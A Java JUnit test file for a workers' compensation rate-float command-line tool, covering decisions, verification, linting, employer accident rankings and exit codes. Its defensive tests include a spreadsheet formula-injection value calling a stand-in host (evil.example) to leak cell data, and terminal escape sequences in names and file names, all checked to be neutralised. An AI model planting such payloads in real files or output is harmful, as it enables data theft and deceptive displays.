package org.ratefloat.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The command line, run in-process: output, and the documented exit codes. */
class CliTest {
  private static final String HUNAN = "rules/cn-hn-provisional.json";
  private static final String CASE = "examples/cn-hn-provisional/machinery.json";
  private static final String RECORD = "examples/cn-hn-provisional/machinery.decision.json";

  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir
  Path tmp;

  private static Stream<JsonNode> stream(JsonNode array) {
    return StreamSupport.stream(array.spliterator(), false);
  }

  private static List<String> fieldNames(JsonNode object) {
    List<String> names = new ArrayList<>();
    object.fieldNames().forEachRemaining(names::add);
    return names;
  }

  record Run(int code, String out, String err) {}

  /** Runs the command line in-process. */
  static Run run(String... args) {
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();
    int code = Main.run(new PrintWriter(out), new PrintWriter(err), args);
    return new Run(code, out.toString(), err.toString());
  }

  @Test
  void decidePrintsTheCanonicalRecord() throws Exception {
    Run r = run("decide", "--rules", HUNAN, CASE);
    assertEquals(0, r.code(), r.err());
    assertEquals(Files.readString(Path.of(RECORD), StandardCharsets.UTF_8), r.out());
  }

  @Test
  void explainInBothLanguages() {
    Run en = run("decide", "--rules", HUNAN, "--explain", CASE);
    assertEquals(0, en.code(), en.err());
    assertTrue(en.out().contains("New rate: 1.3500 % of payroll"), en.out());
    assertTrue(en.out().contains("row payout-100-150: band 0 -> +1"), en.out());
    Run zh = run("explain", "--rules", HUNAN, "--lang", "zh", RECORD);
    assertEquals(0, zh.code(), zh.err());
    assertTrue(zh.out().contains("新费率：工资总额的 1.3500 %，保留4位小数（四舍五入）\n"), zh.out());
    assertTrue(zh.out().contains("上年度执行档次：100 %；本次核定档次：150 %（上浮两档）\n"), zh.out());
    assertTrue(zh.out().contains("[payout-band] 适用，依据行 payout-100-150：费率档次由基准档次调整为上浮一档\n"), zh.out());
    assertTrue(zh.out().contains("依据：工伤保险基金支付 231650.00，已缴工伤保险费 178200.00，乘数 100，期数 1\n"), zh.out());
    assertTrue(zh.out().contains("上年度工伤保险支缴率（%） [payoutRatio] = 115825/891 (≈ 129.994388)"), zh.out());
    assertEquals(2, run("explain", "--rules", HUNAN, "--lang", "fr", RECORD).code());
  }

  @Test
  void verifyAcceptsAnUntouchedRecord() {
    Run r = run("verify", "--rules", HUNAN, RECORD);
    assertEquals(0, r.code(), r.out() + r.err());
    assertTrue(r.out().startsWith("OK:"), r.out());
  }

  @Test
  void verifyRejectsARecordEditedByOneDigit() throws Exception {
    String record = Files.readString(Path.of(RECORD), StandardCharsets.UTF_8);
    // the premium
    Path premium = tmp.resolve("premium.json");
    Files.writeString(premium, record.replace("\"amount\": \"267300.00\"", "\"amount\": \"267300.01\""));
    Run r = run("verify", "--rules", HUNAN, premium.toString());
    assertEquals(5, r.code(), r.out() + r.err());
    assertTrue(r.out().contains("  /premium/amount: 267300.01 \u2192 267300.00\n"), r.out());
    // a figure of the echoed input: the input hash and the echo no longer match the record
    Path input = tmp.resolve("input.json");
    Files.writeString(input, record.replace("\"benefitsPaid\": \"231650.00\"", "\"benefitsPaid\": \"231650.09\""));
    Run i = run("verify", "--rules", HUNAN, input.toString());
    assertEquals(5, i.code(), i.out());
    assertTrue(i.out().contains("  /inputSha256: "), i.out());
    // the rule table's hash
    Path hash = tmp.resolve("hash.json");
    Files.writeString(hash, record.replace("\"sha256\": \"" + sha(record, 0), "\"sha256\": \"0" + sha(record, 0).substring(1)));
    Run h = run("verify", "--rules", HUNAN, hash.toString());
    assertEquals(5, h.code(), h.out());
    assertTrue(h.out().contains("the record names other tables than cn-hn-provisional"), h.out());
    assertTrue(h.out().contains("  /tables/0/sha256: 0" + sha(record, 0).substring(1) + " \u2192 " + sha(record, 0)),
        h.out());
  }

  private static String sha(String record, int index) {
    int at = record.indexOf("\"sha256\": \"") + 11;
    return record.substring(at, at + 64);
  }

  @Test
  void verifyWithAnotherTableIsAMismatch() {
    Run r = run("verify", "--rules", "rules/cn-zj-hangzhou.json", RECORD);
    assertEquals(5, r.code());
  }

  @Test
  void lint() throws Exception {
    try (var files = Files.list(Path.of("rules"))) {
      String[] args = files.filter(p -> p.toString().endsWith(".json")).map(Path::toString).sorted()
          .toArray(String[]::new);
      String[] all = new String[args.length + 1];
      all[0] = "lint";
      System.arraycopy(args, 0, all, 1, args.length);
      Run r = run(all);
      assertEquals(0, r.code(), r.out());
      assertTrue(r.out().contains(args.length + " file(s): 0 error(s), 0 warning(s)"), r.out());
      assertEquals(args.length, r.out().lines().filter(l -> l.endsWith(": ok")).count(), r.out());
    }
    Path broken = tmp.resolve("broken.json");
    Files.writeString(broken, Files.readString(Path.of(HUNAN)).replace("\"hitPolicy\": \"UNIQUE\"", "\"hitPolicy\": \"ALL\""));
    Run r = run("lint", broken.toString());
    assertEquals(4, r.code());
    assertTrue(r.out().contains("RT009 error /steps/1/hitPolicy"), r.out());
  }

  @Test
  void lintAsJson() throws Exception {
    Run r = run("lint", "--format", "json", "src/test/resources/broken-tables/01-overlap-unique.json",
        "src/test/resources/broken-tables/32-unused-indicator.json");
    assertEquals(4, r.code(), r.out());
    JsonNode findings = JSON.readTree(r.out());
    assertTrue(findings.isArray(), r.out());
    // one finding, its code, severity and pointer in that order
    assertTrue(stream(findings).anyMatch(f -> java.util.Collections.indexOfSubList(fieldNames(f),
        List.of("code", "severity", "pointer")) >= 0 && f.path("code").asText().equals("RT021")
        && f.path("severity").asText().equals("error") && f.path("pointer").asText().equals("/steps/0/rows/0")),
        r.out());
    assertTrue(stream(findings).anyMatch(f -> f.path("code").asText().equals("RT029")), r.out());
    // warnings alone pass, unless --strict
    assertEquals(0, run("lint", "src/test/resources/broken-tables/32-unused-indicator.json").code());
    assertEquals(4, run("lint", "--strict", "src/test/resources/broken-tables/32-unused-indicator.json").code());
  }

  @Test
  void rank() throws Exception {
    Path csv = tmp.resolve("rank.csv");
    Run r = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in",
        "examples/hunan-monthly-portfolio.ndjson", "--month", "2025-03", "--top", "8", "--out", csv.toString());
    assertEquals(0, r.code(), r.err());
    // 17 of the 40 employers are in the key industries (06, 08, 47, 49, 50 among them), 10 of them had an
    // accident in March; by accidents, then accidents per 1,000 workers (computed apart from the code):
    // HN-0022 3 (85.714), HN-0023 3 (12.500), HN-0037 3 (20 workers: no rate), HN-0034 2, HN-0021 1 (28.571),
    // HN-0005 1 (16.667), HN-0007 1 (8.333), then HN-0018 and HN-0019 tied at 1 (4.167): the tie crosses the
    // 8th place and is left out, so 7 are listed
    assertTrue(r.err().contains("2025-03: 17 eligible, 0 without that month, 10 reaching the listing threshold, "
        + "7 listed in 1 list(s) of at most 8"), r.err());
    List<String> rows = Files.readAllLines(csv);
    assertEquals("position,employerId,name,creditCode,industryCode,industryName,keyIndustry,region,city,month,accidents,"
        + "accidentRate,injured,deaths,monthsOnList,change", rows.get(0));
    assertTrue(rows.get(1).startsWith("1,HN-0022,湖南石鼓煤业有限公司,91430407MA4L00022C,0610,烟煤和无烟煤开采洗选,"
        + "coal-mines,430407,430400,2025-03,3,85.714,5,0,"), rows.get(1));
    // the tie left out at the cut is said on stderr: HN-0018 and HN-0019 at position 8
    assertTrue(r.err().contains("  430000 湖南省: 2 employer(s) tied at position 8 left out at the cut"), r.err());
    assertEquals(List.of("HN-0022", "HN-0023", "HN-0037", "HN-0034", "HN-0021", "HN-0005", "HN-0007"),
        rows.subList(1, rows.size()).stream().filter(x -> !x.startsWith(",")).map(x -> x.split(",")[1]).toList());
    Run json = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in",
        "examples/hunan-monthly-portfolio.ndjson", "--month", "2025-03", "--top", "8", "--previous-month", "2025-01");
    assertEquals(0, json.code(), json.err());
    JsonNode ranking = JSON.readTree(json.out());
    assertEquals("ratefloat/ranking-result@2", ranking.path("format").textValue(), json.out());
    assertEquals("2025-01", ranking.path("comparedWith").textValue(), json.out());
    assertEquals("8", ranking.path("groups").path(0).path("leftOutAtCut").path("position").asText(), json.out());
    assertEquals(2, ranking.path("groups").path(0).path("leftOutAtCut").path("employers").intValue(), json.out());
    assertEquals(2, run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in",
        "examples/hunan-monthly-portfolio.ndjson", "--month", "2025-13").code());
  }

  @Test
  void rankListsItsKeyIndustriesWithTheirNames() {
    Run zh = run("rank", "--definition", "cn-hn-key-industries", "--list-industries", "--lang", "zh");
    assertEquals(0, zh.code(), zh.err());
    assertTrue(zh.out().startsWith("湖南省重点行业工伤事故月度排名（暂定参数） (cn-hn-key-industries "), zh.out());
    for (String line : List.of("煤矿 [coal-mines]", "  GB/T 4754-2011", "    06 煤炭开采和洗选业", "    1190 其他开采辅助活动",
        "    747 地质勘查", "    251 精炼石油产品制造", "    594 危险品仓储", "    47 房屋建筑业")) {
      assertTrue(zh.out().contains(line + "\n"), line + " in\n" + zh.out());
    }
    Run en = run("rank", "--definition", "cn-hn-key-industries", "--list-industries");
    assertTrue(en.out().contains("non-coal mines [non-coal-mines]\n"), en.out());
  }

  @Test
  void rankByCityAndByIndustry() throws Exception {
    Path csv = tmp.resolve("by-city.csv");
    Run byCity = run("rank", "--definition", "cn-hn-key-industries", "--in", "examples/hunan-monthly-portfolio.ndjson",
        "--month", "2025-03", "--by", "city", "--lang", "zh", "--out", csv.toString());
    assertEquals(0, byCity.code(), byCity.err());
    // the 10 employers with an accident in March are spread over the cities: each listed once, by city
    assertTrue(byCity.err().contains("列示 10 家（共 14 个名单，每个至多 100 家）"), byCity.err());
    List<String> rows = Files.readAllLines(csv, StandardCharsets.UTF_8);
    assertTrue(rows.get(0).startsWith("\uFEFF分组（市州）,排名,单位名称,"), rows.get(0));
    assertEquals(10, rows.stream().skip(1).filter(r -> !r.contains("退出")).count(), String.join("\n", rows));
    Run byIndustry = run("rank", "--definition", "cn-hn-key-industries", "--in",
        "examples/hunan-monthly-portfolio.ndjson", "--month", "2025-03", "--by", "industry");
    assertEquals(0, byIndustry.code(), byIndustry.err());
    JsonNode json = JSON.readTree(byIndustry.out());
    assertEquals(List.of("coal-mines", "non-coal-mines", "hazardous-chemicals", "construction"),
        java.util.stream.StreamSupport.stream(json.path("groups").spliterator(), false)
            .map(g -> g.path("code").asText()).toList());
  }

  @Test
  void rankReadsCsvPortfolios() throws Exception {
    // one row per employer and month: P has 4 accidents (6 injured) in 100 workers, Q 4 in 50, R 1 in 200
    // (coal, 06), and in February P had none
    Path csv = tmp.resolve("monthly.csv");
    Files.writeString(csv, String.join("\n", "id,edition,code,asOf,from,to,averageHeadcount,injuries,accidents",
        "P,GB/T 4754-2011,0610,2025-04-01,2025-02-01,2025-02-28,100,0,0",
        "P,GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,100,6,4",
        "Q,GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,50,4,4",
        "R,GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,200,1,1", ""));
    Path out = tmp.resolve("rank.csv");
    Run r = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in", csv.toString(),
        "--month", "2025-03", "--out", out.toString());
    assertEquals(0, r.code(), r.err());
    // accidents: P, Q 4, R 1; among P and Q the rate per 1,000: Q 80.000 before P 40.000; R 5.000
    assertEquals(List.of(
        "position,employerId,name,creditCode,industryCode,industryName,keyIndustry,region,city,month,accidents,"
            + "accidentRate,injured,deaths,monthsOnList,change",
        "1,Q,,,0610,烟煤和无烟煤开采洗选,coal-mines,,,2025-03,4,80.000,4,,1,entered",
        "2,P,,,0610,烟煤和无烟煤开采洗选,coal-mines,,,2025-03,4,40.000,6,,1,entered",
        "3,R,,,0610,烟煤和无烟煤开采洗选,coal-mines,,,2025-03,1,5.000,1,,1,entered"), Files.readAllLines(out));
  }

  @Test
  void simulate() throws Exception {
    Path portfolio = tmp.resolve("portfolio.ndjson");
    Files.writeString(portfolio, String.join("\n",
        Files.readString(Path.of("examples/cn-hn-provisional/machinery.json")).replace("\n", ""),
        Files.readString(Path.of("examples/cn-hn-provisional/clean-retailer-in-arrears.json")).replace("\n", ""),
        "not json"));
    Run r = run("simulate", "--rules", HUNAN, "--compare", "rules/cn-zj-hangzhou.json", "--in", portfolio.toString(),
        "--base-year", "2023");
    // the unreadable third line is a refused record: exit 7, or 0 with --allow-errors
    assertEquals(7, r.code(), r.err());
    assertEquals(0, run("simulate", "--rules", HUNAN, "--compare", "rules/cn-zj-hangzhou.json", "--in",
        portfolio.toString(), "--base-year", "2023", "--allow-errors").code());
    JsonNode simulation = JSON.readTree(r.out());
    assertEquals("ratefloat/simulation@2", simulation.path("format").textValue(), r.out());
    // machinery: 19,800,000.00 x 1.35 % = 267,300; retailer: 6,200,000.00 x 0.4 % = 24,800 (arrears veto);
    // exact: payroll (2 decimals) x rate (4 decimals) / 100 keeps 8 decimals
    assertEquals("cn-hn-provisional", simulation.at("/tables/0/table/id").textValue(), r.out());
    assertEquals("292100.00000000", simulation.at("/tables/0/total/incomeAfterFloating").textValue(), r.out());
    assertTrue(r.err().contains("unreadable IN001 1"), r.err());
  }

  @Test
  void classify() {
    Run r = run("classify", "36", "--edition", "2011");
    assertEquals(0, r.code(), r.err());
    assertTrue(r.out().contains("class 4, benchmark 0.9 % of payroll, bands [0.5, 0.8, 1.0, 1.2, 1.5]"), r.out());
    // its name (GB/T 4754-2011 division 36) and, by cn-hn-key-industries, not a key industry
    assertTrue(r.out().contains("\nname: 汽车制造业\nkey industry of cn-hn-key-industries: no\n"), r.out());
    // 0610 (烟煤和无烟煤开采洗选) is class 8 (1.9 %), and a coal mine: a key industry of the Hunan ranking
    Run zh = run("classify", "0610", "--edition", "2011", "--lang", "zh");
    assertEquals(List.of("GB/T 4754-2011 0610：行业风险类别为八类，基准费率为工资总额的 1.9 %，费率档次为基准费率的 "
        + "50 %、80 %、100 %、120 %、150 %（行业分类 cn-annex-2015，已核实；费率表 cn-national-2015）",
        "行业名称：烟煤和无烟煤开采洗选", "是否重点行业（cn-hn-key-industries）：是，属煤矿（coal-mines）"), zh.out().lines().toList());
    // a division of which only a group is a key industry cannot be told by its two digits
    Run unclear = run("classify", "25", "--edition", "2011", "--lang", "zh");
    assertTrue(unclear.out().endsWith("是否重点行业（cn-hn-key-industries）：排名定义 cn-hn-key-industries 将 25 之下的 251 "
        + "列为重点行业（危险化学品），仅凭 25 无法判断：请填写 3 位行业代码\n"), unclear.out());
    Run shifted = run("classify", "97", "--edition", "GB/T 4754-2017");
    assertTrue(shifted.out().contains("class 1, benchmark 0.2 %"), shifted.out());
    Run ambiguous = run("classify", "59", "--edition", "2017");
    assertEquals(3, ambiguous.code());
    assertTrue(ambiguous.err().contains("IN015"), ambiguous.err());
    assertEquals(3, run("classify", "79", "--edition", "2017").code());
    // --edition is an option: an edition that does not exist is a usage error, as for every option
    Run unknownEdition = run("classify", "36", "--edition", "2002");
    assertEquals(2, unknownEdition.code());
    assertTrue(unknownEdition.err().startsWith("ratefloat: CL003 --edition"), unknownEdition.err());
  }

  @Test
  void exitCodes() throws Exception {
    Path bad = tmp.resolve("bad.json");
    Files.writeString(bad, Files.readString(Path.of(CASE)).replace("\"injuries\": 6", "\"injuries\": -6"));
    Run input = run("decide", "--rules", HUNAN, bad.toString());
    assertEquals(3, input.code());
    assertTrue(input.err().contains("IN007 /history/1/injuries: injuries must not be negative: -6"), input.err());

    Path badRules = tmp.resolve("rules.json");
    Files.writeString(badRules, "{\"format\": \"ratefloat/rule-table@1\",}");
    assertEquals(4, run("decide", "--rules", badRules.toString(), CASE).code());

    Path undetermined = tmp.resolve("js.json");
    // an injury in the last period: the Jiangsu up-float part is missing from the source
    Path jsCase = Path.of("examples/cn-js-2023/clean-two-periods.json");
    String text = Files.readString(jsCase);
    int last = text.lastIndexOf("\"injuries\": 0");
    Files.writeString(undetermined, text.substring(0, last) + "\"injuries\": 1" + text.substring(last + 13));
    Run u = run("decide", "--rules", "rules/cn-js-2023.json", undetermined.toString());
    assertEquals(6, u.code(), u.err());
    assertTrue(u.err().contains("DC001 /steps/0/rows/2"), u.err());

    assertEquals(2, run("decide", CASE).code());
    assertEquals(2, run().code());
    assertEquals(3, run("decide", "--rules", HUNAN, tmp.resolve("missing.json").toString()).code());
    assertEquals(4, run("decide", "--rules", tmp.resolve("missing.json").toString(), CASE).code());
  }

  @Test
  void helpAndUsageLinesNameTheCommand() {
    Run help = run("help");
    assertEquals(0, help.code(), help.err());
    assertTrue(help.out().startsWith("Usage: ratefloat [-hV] [COMMAND]"), help.out());
    assertTrue(help.out().contains("7   some records were refused"), help.out());
    Run report = run("help", "report");
    assertEquals(0, report.code(), report.err());
    assertTrue(report.out().startsWith("Usage: ratefloat report "), report.out());
    assertTrue(run("report", "--help").out().startsWith("Usage: ratefloat report "));
    // a usage error names the command whose help to read, in one line
    Run bad = run("report", "--out", tmp.resolve("r.html").toString());
    assertEquals(2, bad.code());
    assertEquals("ratefloat: CL002 --simulation: give --simulation, --ranking or both (see ratefloat report --help)\n",
        bad.err());
  }

  @Test
  void aFileNamedTwiceIsLintedOnce() throws Exception {
    Run twice = run("lint", HUNAN, HUNAN, "./" + HUNAN, "rules/../" + HUNAN);
    assertEquals(0, twice.code(), twice.out());
    assertFalse(twice.out().contains("RT027"), twice.out());
    assertTrue(twice.out().contains("1 file(s): 0 error(s)"), twice.out());
    // a copy is another file: two versions whose periods overlap
    Path copy = tmp.resolve("cn-hn-provisional.json");
    Files.copy(Path.of(HUNAN), copy);
    for (String base : List.of("cn-national-2015.json", "cn-annex-2015.json")) {
      Files.copy(Path.of("rules", base), tmp.resolve(base));
    }
    Run copies = run("lint", HUNAN, copy.toString());
    assertEquals(4, copies.code(), copies.out());
    assertTrue(copies.out().contains("RT027 error /effectiveFrom"), copies.out());
  }

  @Test
  void lintPrintsFindingsOnOneLineEach() throws Exception {
    // an indicator name with a line break and escape sequences, echoed by the finding about it
    Path hostile = tmp.resolve("hostile\n\u001b[2J.json");
    Files.writeString(hostile, Files.readString(Path.of(HUNAN)).replaceFirst("\"hitPolicy\": \"UNIQUE\"",
        "\"hitPolicy\": \"U\\n\\u001b]0;owned\\u0007\""));
    Run r = run("lint", hostile.toString());
    assertEquals(4, r.code(), r.out());
    assertEquals(2, r.out().lines().count(), r.out());
    assertTrue(r.out().contains("hostile\\n\\u001b[2J.json: RT009 error /steps/1/hitPolicy"), r.out());
    assertFalse(r.out().chars().anyMatch(c -> c < 0x20 && c != '\n'), r.out());
  }

  @Test
  void aRunWithSomeRefusedRecordsExits7AndSaysHowMany() throws Exception {
    Path portfolio = tmp.resolve("portfolio.ndjson");
    Files.writeString(portfolio, Files.readString(Path.of(CASE)).replace("\n", "") + "\nnot json\n");
    Path out = tmp.resolve("decisions.ndjson");
    Run batch = run("batch", "--rules", HUNAN, "--in", portfolio.toString(), "--out", out.toString());
    assertEquals(7, batch.code(), batch.err());
    assertTrue(batch.err().contains(": 2 records in "), batch.err());
    assertTrue(batch.err().contains("1 decided, 1 refused"), batch.err());
    assertTrue(batch.err().contains("refused IN001"), batch.err());
    assertEquals(2, Files.readAllLines(out).size(), "one output record per input record");
    Run allowed = run("batch", "--rules", HUNAN, "--in", portfolio.toString(), "--out", out.toString(),
        "--allow-errors");
    assertEquals(0, allowed.code(), allowed.err());

    Path monthly = tmp.resolve("monthly.ndjson");
    Files.writeString(monthly, Files.readString(Path.of("examples/hunan-monthly-portfolio.ndjson")) + "{}\n");
    Run rank = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in", monthly.toString(),
        "--month", "2025-03");
    assertEquals(7, rank.code(), rank.err());
    assertTrue(rank.err().contains("2025-03: 17 eligible, 0 without that month, 10 reaching the listing threshold, "
        + "10 listed in 1 list(s) of at most 100, 1 refused"), rank.err());
    assertEquals(0, run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in",
        monthly.toString(), "--month", "2025-03", "--allow-errors").code());
  }

  @Test
  void csvOutputCannotRunInASpreadsheet() throws Exception {
    // batch: an employer id that a spreadsheet would run, and a refused record whose message echoes one
    String machinery = Files.readString(Path.of(CASE)).replace("\n", "");
    Path portfolio = tmp.resolve("formulas.ndjson");
    Files.writeString(portfolio, machinery.replace("\"HN-430100-000123\"",
        "\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"open\\\")\"") + "\n"
        + machinery.replace("\"HN-430100-000123\"", "\"@SUM(1+1)\"").replace("\"code\": \"3511\"",
            "\"code\": \"-2+3\"") + "\n");
    Path out = tmp.resolve("formulas.csv");
    Run batch = run("batch", "--rules", HUNAN, "--in", portfolio.toString(), "--out", out.toString());
    assertEquals(7, batch.code(), batch.err());
    List<String> rows = Files.readAllLines(out);
    assertTrue(rows.get(1).startsWith("1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",ok,"),
        rows.get(1));
    assertTrue(rows.get(2).startsWith("2,\"'@SUM(1+1)\",error,"), rows.get(2));
    // numbers stay numbers: the rate, the premium
    assertTrue(rows.get(1).contains(",1.3500,267300.00,"), rows.get(1));

    // rank: employer ids from a CSV portfolio, and an indicator of value -1 would stay a number
    Path csv = tmp.resolve("monthly.csv");
    Files.writeString(csv, String.join("\n", "id,edition,code,asOf,from,to,averageHeadcount,injuries,accidents",
        "+1 (cmd),GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,100,4,4",
        "\"-2+3,\tx\",GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,50,4,4", ""));
    Path ranked = tmp.resolve("rank.csv");
    Run rank = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in", csv.toString(),
        "--month", "2025-03", "--out", ranked.toString());
    assertEquals(0, rank.code(), rank.err());
    List<String> top = Files.readAllLines(ranked);
    // and the tab in it is escaped as every control character of a cell is (CsvOut)
    assertEquals("1,\"'-2+3,\\tx\",,,0610,烟煤和无烟煤开采洗选,coal-mines,,,2025-03,4,80.000,4,,1", top.get(1));
    assertEquals("2,\"'+1 (cmd)\",,,0610,烟煤和无烟煤开采洗选,coal-mines,,,2025-03,4,40.000,4,,1", top.get(2));
  }

  @Test
  void aDocumentOfTheWrongKindIsNamedForWhatItIs() {
    Run caseAsTable = run("decide", "--rules", CASE, CASE);
    assertEquals(4, caseAsTable.code());
    assertTrue(caseAsTable.err().matches("ratefloat: RT004 /format: .*required key \"format\" is missing: expected a "
        + "rule table of format \"ratefloat/rule-table@1\" or \"ratefloat/rule-table@2\", found a case \\(.*\n"), caseAsTable.err());
    Run recordAsTable = run("decide", "--rules", RECORD, CASE);
    assertEquals(4, recordAsTable.code());
    assertTrue(recordAsTable.err().contains("RT014 /format: ") && recordAsTable.err().contains(
        "this is a decision record of format \"ratefloat/decision@2\", not a rule table"), recordAsTable.err());
    Run tableToExplain = run("explain", "--rules", HUNAN, HUNAN);
    assertEquals(3, tableToExplain.code());
    assertEquals("ratefloat: IN040 /format: expected a case, a decision record or a batch output, found a rule "
        + "table of format "
        + "\"ratefloat/rule-table@1\"\n", tableToExplain.err());
  }

  @Test
  void aCodeOnTheCommandLineIsNamedAsTheArgument() {
    Run unknown = run("classify", "9999", "--edition", "2011");
    assertEquals(3, unknown.code());
    assertEquals("ratefloat: IN012 CODE: unknown GB/T 4754-2011 code: 9999\n", unknown.err());
    Run tooLong = run("classify", "99999", "--edition", "2011");
    assertEquals(3, tooLong.code());
    assertEquals("ratefloat: IN012 CODE: industry code must have 2 to 4 digits: \"99999\"\n", tooLong.err());
    org.ratefloat.error.InputException api = org.junit.jupiter.api.Assertions.assertThrows(
        org.ratefloat.error.InputException.class, () -> org.ratefloat.RateFloat.bundledTable("cn-national-2015")
            .classify(new org.ratefloat.model.IndustryCode(org.ratefloat.model.Edition.GBT_4754_2011, "9999")));
    assertEquals("/code", api.pointer(), "within the code's own JSON form, not a case's");
  }

  @Test
  void anNcciAccountReadsLikeItsWorksheet() {
    Run r = run("decide", "--rules", "us-ncci-mod", "--explain", "examples/us-ncci-mod/multi-class-contractor.json");
    assertEquals(0, r.code(), r.err());
    assertTrue(r.out().contains("Worksheet:\n  (A) weighting value W (line A) = 0.10\n  (C) expected excess losses Ee"),
        r.out());
    // K = 17,715 + (66,390 x 0.90 + 35,480) + 0.10 x 66,390 = 119,585, printed in whole dollars as the worksheet prints it
    assertTrue(r.out().contains("  (K) expected K = Ep (line E) + stabilizing value + W x Ee (A x C, in whole dollars) = 119585\n"
        + "  (Mod) experience modification J / K = 1.07\n"), r.out());
  }

  @Test
  void aMisspeltCustomFlagIsNamedInAWarningNotSilentlyReadAsAbsent() throws Exception {
    String bgBau = Files.readString(Path.of("examples/de-bg-bau-zuschlag/between-below-cap.json"))
        .replace("\"customValues\": {", "\"customFlags\": {\"beitragsAbfindung\": true},\n      \"customValues\": {");
    Path file = tmp.resolve("misspelt.json");
    Files.writeString(file, bgBau);
    org.ratefloat.decision.Decision d = org.ratefloat.RateFloat.bundledTable("de-bg-bau-zuschlag")
        .decide(org.ratefloat.RateFloat.readCase(file));
    assertEquals(List.of("unread-custom-values"), d.warnings().stream().map(w -> w.code())
        .filter(c -> c.startsWith("unread")).toList());
    assertTrue(d.warnings().stream().anyMatch(w -> w.en().contains(": beitragsAbfindung (a misspelt name counts as absent)")),
        d.warnings().toString());
  }

  @Test
  void anAccountCannotDriveTheTerminal() throws Exception {
    // the JSON escapes \u001b (ESC) and \u202e (right-to-left override) in the employer's name
    String evil = Files.readString(Path.of(CASE)).replace("\"长沙示例机械制造有限公司\"",
        "\"Evil\\u001b[2J\\u001b[31mGmbH\\u202e\"");
    assertTrue(evil.contains("Evil"), "the example's name was replaced");
    Path file = tmp.resolve("evil.json");
    Files.writeString(file, evil);
    Run r = run("decide", "--rules", HUNAN, "--explain", file.toString());
    assertEquals(0, r.code(), r.err());
    assertTrue(r.out().contains("Evil\\u001b[2J\\u001b[31mGmbH\\u202e"), r.out());
    assertTrue(r.out().chars().noneMatch(c -> c == 0x1b || c == 0x202e), "no control character reaches the terminal");
  }

  @Test
  void credibilityCannotWriteBothDocumentsIntoOneFile() {
    Path both = tmp.resolve("c.reference.json");
    Run r = run("credibility", "--rules", "cn-national-2015", "--in", "examples/cn-credibility-blend/portfolio.ndjson",
        "--out", both.toString(), "--reference-out", both.toString(), "--effective-from", "2025-01-01");
    assertEquals(2, r.code(), r.err());
    assertTrue(r.err().startsWith("ratefloat: CL003 --reference-out: must be another file than --out"), r.err());
    assertTrue(!Files.exists(both), "nothing written");
  }

  @Test
  void aSimulationSaysWhatMoneyTheRowsAddedBesidesThePremium() throws Exception {
    StringBuilder portfolio = new StringBuilder();
    for (String name : List.of("between-reduced-cap", "between-below-cap", "above-maximum", "below-average")) {
      portfolio.append(Files.readString(Path.of("examples/de-bg-bau-zuschlag/" + name + ".json")).replace("\n", ""))
          .append('\n');
    }
    Path in = tmp.resolve("de.ndjson");
    Files.writeString(in, portfolio);
    Path out = tmp.resolve("de.json");
    Run r = run("simulate", "--rules", "de-bg-bau-zuschlag", "--in", in.toString(), "--out", out.toString());
    assertEquals(0, r.code(), r.err());
    // 10,059.75 + 10,059.75 + 20,119.50 + 0 (the four examples' surcharges)
    assertEquals("40239.00", new com.fasterxml.jackson.databind.ObjectMapper().readTree(out.toFile())
        .at("/tables/0/amounts/EUR").asText(), Files.readString(out));
    assertTrue(r.err().contains("amounts the table's rows added besides the premium (not in the income above): "
        + "40239.00 EUR"), r.err());
  }

  @Test
  void anAccountShowsALongExactFractionByItsDisplayValueAndAShortOneWhole() {
    Run blend = run("decide", "--rules", "cn-credibility-blend", "--explain",
        "examples/cn-credibility-blend/small-workshop.json");
    assertEquals(0, blend.code(), blend.err());
    // 5483105106313477864041/8594275488500000000000 in the record
    assertTrue(blend.out().contains("[blended] = ≈ 0.637995 (the exact fraction is in the record)"), blend.out());
    Run hunan = run("decide", "--rules", HUNAN, "--explain", CASE);
    assertTrue(hunan.out().contains("[payoutRatio] = 115825/891 (≈ 129.994388)"), hunan.out());
  }
}
